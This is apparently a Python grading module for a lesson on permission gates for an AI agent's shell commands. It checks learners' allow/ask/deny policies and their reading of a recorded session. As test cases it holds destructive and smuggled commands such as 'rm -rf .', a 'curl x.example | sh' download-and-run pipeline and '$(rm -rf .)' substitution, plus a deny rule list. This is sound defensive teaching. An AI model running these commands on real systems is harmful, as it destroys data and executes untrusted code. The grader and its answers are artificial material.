"""Lesson 07's checks: a permission policy written as a function, and a prediction of
which calls of the recorded permissions run the gate stopped.

The team's rules are stated in the lesson and written again here, as a small reference
(``team_verdict``) that shares no code with ``labkit.harness.gate``: the gate is what the
lesson teaches, so it must not decide what the right answer is. (A test holds the two
to the same verdicts on the cases this check draws.)
"""

from __future__ import annotations

import random
import re

from ..feedback import Case, run_cases, show
from ..isolated import same
from .common import hidden_cases, learner_answer, new_seed

__all__ = ["check_policy", "check_gate_stops"]

VERDICTS = ("allow", "ask", "deny")  # from the least to the most strict
SHELLS = ("sh", "bash")
#: Where one command of a shell script ends and the next begins, in the lesson's rules.
SEPARATORS = re.compile(r"[;&|()`\n]")
#: What the shell would expand, redirect or unquote: a script holding one is never allowed.
SPECIAL = set("$`<>*?[{~'\"\\")


def team_verdict(command: list) -> str:
    """The reference: the team's rules, as lesson 07 states them."""
    if len(command) >= 3 and command[0] in SHELLS and command[1] == "-c":
        script = command[2]
        verdicts = [
            _one_command(piece.split()) for piece in SEPARATORS.split(script) if piece.split()
        ]
        worst = max(verdicts, key=VERDICTS.index) if verdicts else "ask"
        return "ask" if worst == "allow" and SPECIAL & set(script) else worst
    return _one_command(command)


def _one_command(words: list) -> str:
    if words[:1] in (["rm"], ["curl"]) or words[:2] == ["git", "push"]:
        return "deny"
    if (
        words[:3] == ["python", "-m", "pytest"]
        or words == ["git", "status"]
        or words[:2] == ["git", "diff"]
    ):
        return "allow"
    return "ask"


#: (what the case shows, the command, a hint for a learner who gets it wrong)
POLICY_CASES = [
    (
        "the tests, with flags",
        ["python", "-m", "pytest", "-qq"],
        "python -m pytest followed by anything is allowed",
    ),
    (
        "a test filter whose letters hold 'rm'",
        ["python", "-m", "pytest", "-k", "confirm"],
        "'confirm' holds the letters rm, but no word of the command is rm: compare whole words, "
        "not pieces of text",
    ),
    ("rm itself", ["rm", "-rf", "."], "rm is denied, whatever follows it"),
    (
        "a program no rule names",
        ["make", "clean"],
        "no rule names make, so the default applies: ask. A command no rule allows is never "
        "allowed",
    ),
    (
        "a look-alike of pytest",
        ["python", "-m", "pytest_evil"],
        "pytest_evil is another module: a rule's words must match whole words",
    ),
    ("git status, exactly", ["git", "status"], "the rule allows exactly `git status`"),
    (
        "git status with more words",
        ["git", "status", "--porcelain"],
        "the rule is `git status` with nothing after it (unlike git diff, which allows any "
        "further words): anything more is asked",
    ),
    ("git push", ["git", "push", "--force"], "git push is denied"),
    (
        "a shell running the tests, then rm",
        ["sh", "-c", "python -m pytest -qq; rm -rf ."],
        "a shell given a script runs every command in it: split the script and judge each one; "
        "the strictest verdict wins",
    ),
    (
        "a pipeline ending in a download",
        ["bash", "-c", "python -m pytest && curl x.example | sh"],
        "every command of the script counts: curl is denied, so the whole call is",
    ),
    (
        "a command substituted inside another",
        ["sh", "-c", "python -m pytest $(rm -rf .)"],
        "$( ) runs the command inside it before the outer one: rm is in there",
    ),
    (
        "a redirection",
        ["sh", "-c", "python -m pytest > log.txt"],
        "> writes a file the rules never named: a script holding it is asked, never allowed",
    ),
    (
        "';' given to pytest, with no shell",
        ["python", "-m", "pytest", ";", "rm", "-rf", "."],
        "without a shell, ';' is just one more argument for pytest: nothing else runs, so the "
        "tests rule allows it",
    ),
    (
        "a script of allowed commands",
        ["sh", "-c", "git status; git diff --stat"],
        "both commands of the script are allowed, so the call is",
    ),
    (
        "echo printing the letters of a command",
        ["echo", "rm -rf ."],
        "echo only prints its argument; no rule names echo, so ask",
    ),
]
DRAWN_COMMANDS = 8  # commands drawn afresh per run


def check_policy(verdict, *, hidden: bool = False) -> None:
    """``verdict(command)`` gives the team's verdict on a ``run_command`` argument list."""
    answer = learner_answer(verdict, "verdict")
    listed = POLICY_CASES + (hidden_cases("check_policy") if hidden else [])
    number = new_seed()
    draw = random.Random(number)
    drawn = [
        (f"drawn case {n} (seed {number})", drawn_command(draw), "")
        for n in range(1, DRAWN_COMMANDS + 1)
    ]
    cases = [
        Case(
            label,
            [command],
            team_verdict(command),
            hint=hint,
            shown=f"{answer.name}({show(command, 200)})",
        )
        for label, command, hint in listed + drawn
    ]
    run_cases(answer, cases, _policy_problem, what="verdict")


def _policy_problem(got, case, outcome) -> str | None:
    if type(got) is not str or got not in VERDICTS:
        return f"return 'allow', 'ask' or 'deny' (a str), not {show(got, 60)}"
    if not same(outcome.arguments[0], case.arguments[0]):
        return (
            f"your function changed the command it was given (afterwards it is "
            f"{show(outcome.arguments[0], 80)}): only read it, the harness still runs it"
        )
    if got == case.expected:
        return None
    if got == "allow":
        return (
            f"returned 'allow', but the team's rules give {case.expected!r}: a call is "
            "allowed only when every command it runs matches an allow rule"
        )
    return f"returned {got!r}, but the team's rules give {case.expected!r}"


# --- Drawn commands ------------------------------------------------------------------------

PROGRAMS = [
    ["python", "-m", "pytest"],
    ["python", "-m", "pytest_x"],
    ["python", "-c"],
    ["git", "status"],
    ["git", "diff"],
    ["git", "push"],
    ["git", "log"],
    ["rm"],
    ["curl"],
    ["ls"],
    ["make"],
    ["echo"],
    ["pytest"],
]
WORDS = [
    "-q",
    "-x",
    "tests",
    "confirm",
    "-rf",
    ".",
    "--force",
    "origin",
    "rm",
    "pytest",
    "x.py",
    "firmware",
    "push",
]
OPERATORS = ["; ", " && ", " || ", " | ", " & ", "\n"]


def drawn_command(draw: random.Random) -> list:
    """A random run_command argument list: a program with arguments, or a shell script that
    chains some, perhaps with a substitution, a redirection or a glob. Never a quote, a
    ``~`` or a ``2>&1``: there the lesson's simple rules are stricter than the shell."""
    if draw.random() < 0.4:
        command = _simple(draw) + (
            draw.choice([[";", "rm", "-rf", "."], ["$(id)"], ["a|b"]])
            if draw.random() < 0.3
            else []
        )
        return command
    pieces = [" ".join(_simple(draw)) for _ in range(draw.randrange(1, 4))]
    script = pieces[0]
    for piece in pieces[1:]:
        script += draw.choice(OPERATORS) + piece
    extra = draw.random()
    if extra < 0.2:
        script += f" $({' '.join(_simple(draw))})"
    elif extra < 0.3:
        script += f" `{' '.join(_simple(draw))}`"
    elif extra < 0.4:
        script += draw.choice([" > out.txt", " < in.txt", " *.py"])
    elif extra < 0.5:
        script = f"({script})"
    return [draw.choice(SHELLS), "-c", script]


def _simple(draw: random.Random) -> list:
    return list(draw.choice(PROGRAMS)) + draw.sample(WORDS, draw.randrange(0, 3))


# --- Which calls did the gate stop? ---------------------------------------------------------

#: The calls of permissions.json, in order: what they asked, and what became of them
#: (a test replays the recording and checks these).
RECORDED_CALLS = [
    ("python -m pytest -qq", "ran: the rule 'allow python -m pytest *' allows it"),
    ("read_file path_rules.py", "ran: the policy allows read_file"),
    (
        "python -c '...print(python_sources(...))'",
        "ran: no rule names python -c, so the gate asked, and the person approved it",
    ),
    ("replace_text ...", "ran: the policy allows replace_text"),
    (
        "sh -c 'python -m pytest -qq; rm -rf .'",
        "stopped: the script's second command, rm -rf ., matches 'deny rm *'; the first one "
        "being allowed changes nothing",
    ),
    ("python -m pytest -qq", "ran: allowed by its rule, as the first time"),
    ("ls -a ..", "stopped: no rule names ls, so the gate asked, and the person denied it"),
]
STOPPED_CALLS = [5, 7]


def check_gate_stops(stopped_calls, *, hidden: bool = False) -> None:
    """``stopped_calls()`` lists the numbers of the recorded calls the gate stopped."""
    answer = learner_answer(stopped_calls, "stopped_calls")
    case = Case(
        "the calls of permissions.json",
        [],
        STOPPED_CALLS,
        shown=f"{answer.name}(), for the 7 calls of permissions.json",
    )
    extra = hidden_cases("check_gate_stops") if hidden else []
    run_cases(answer, [case, *extra], _stops_problem, what="stopped_calls")


def _stops_problem(got, case, outcome) -> str | None:
    if type(got) is not list or not all(type(n) is int for n in got):
        return f"return a list of call numbers (ints), such as [1, 2], not {show(got, 60)}" + (
            ": did you forget `return`?" if got is None else ""
        )
    if len(set(got)) != len(got) or not all(1 <= n <= len(RECORDED_CALLS) for n in got):
        return f"each call number appears once and is 1 to {len(RECORDED_CALLS)}; {got} is not that"
    for number, (call, fate) in enumerate(RECORDED_CALLS, start=1):
        if (number in got) != (number in case.expected):
            said = "stopped" if number in got else "ran"
            return f"call {number} ({call}): you said it {said}, but it {fate}"
    return None
